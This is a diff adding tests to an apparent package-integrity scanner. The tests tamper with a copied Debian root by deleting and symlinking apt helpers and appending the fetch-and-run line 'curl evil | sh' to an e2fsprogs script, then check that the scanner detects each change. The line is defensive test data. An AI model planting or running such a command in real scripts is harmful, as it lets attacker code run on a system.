@@ -140,3 +140,61 @@ def test_directory_fifo_and_device_where_binaries_were(tmp_path: Path, clean_roo
         "/usr/bin/cat": ("not-a-regular-file", "char-device"),
     }
     shutil.rmtree(root)
+
+
+def test_helper_programs_outside_bin_are_in_the_default_scope(
+    tmp_path: Path, clean_root: Path
+) -> None:
+    """dpkg records no modes: a program in usr/lib (apt's methods, e2fsprogs' helpers) that is
+    deleted, replaced by a symlink or stripped of its execute bits and changed is still judged;
+    the data files of a library tree (terminfo, locale) are not, and a clean root stays clean."""
+    root = copy_root(clean_root, tmp_path / "root")
+    (root / "usr/lib/apt/methods/http").unlink()
+    (root / "usr/lib/apt/methods/gpgv").unlink()
+    os.symlink("/bin/true", root / "usr/lib/apt/methods/gpgv")
+    helper = root / "usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_fail"  # a shell script
+    with open(helper, "ab") as handle:
+        handle.write(b"\ncurl evil | sh\n")
+    os.chmod(helper, 0o644)
+    (root / "usr/lib/terminfo/x/xterm").unlink()  # data: --all-files only
+    report = scanner.scan_root(root, checks=["448"])
+    assert _kinds(report) == {
+        "/usr/lib/apt/methods/http": "missing",
+        "/usr/lib/apt/methods/gpgv": "replaced-by-symlink",
+        "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_fail": "modified",
+    }
+    assert all(f.severity is scanner.Severity.HIGH for f in report.findings)
+    shutil.rmtree(root)
+
+
+def test_helper_rule_covers_the_programs_of_library_trees_and_little_else(
+    clean_root: Path,
+) -> None:
+    """The path rule for dpkg (no recorded modes) against the truth of a real root: every
+    program in a library tree but those named with a dot, and only a handful of data files."""
+    from scanner.checks.package_binaries import _helper_path_says_binary
+
+    programs, missed, data = 0, [], []
+    for path in _dpkg_files(clean_root):
+        full = clean_root / os.fsdecode(path)
+        if not path.startswith((b"lib/", b"usr/lib/")) or not full.is_file() or full.is_symlink():
+            continue
+        executable = bool(full.stat().st_mode & 0o111) and not path.endswith(b".so")
+        if executable and b".so." not in path:
+            programs += 1
+            if not _helper_path_says_binary(path):
+                missed.append(path)
+        elif _helper_path_says_binary(path):
+            data.append(path)
+    assert programs >= 15
+    assert all(b"." in p.rpartition(b"/")[2] for p in missed), missed
+    assert len(missed) <= 2 and len(data) <= 10, (missed, data)
+
+
+def _dpkg_files(root: Path) -> list[bytes]:
+    paths = []
+    for name in os.listdir(root / "var/lib/dpkg/info"):
+        if name.endswith(".md5sums"):
+            for line in (root / "var/lib/dpkg/info" / name).read_bytes().splitlines():
+                paths.append(line.split(None, 1)[1])
+    return paths
